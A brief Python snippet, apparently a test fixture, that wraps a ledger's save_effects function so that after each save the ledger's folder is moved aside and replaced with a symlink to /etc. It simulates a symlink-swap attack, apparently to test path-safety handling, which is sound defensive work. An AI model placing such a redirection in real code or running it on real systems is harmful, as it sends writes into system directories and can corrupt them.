"""The whole folder of the ledger becomes a link to another one."""
def spoil(path):
    folder = path.parent
    if not folder.is_symlink():
        folder.rename(folder.with_name(f"moved-{os.urandom(4).hex()}"))
        folder.symlink_to("/etc")

_save = save_effects
def save_effects(path, effects):
    _save(path, effects)
    spoil(Path(path))
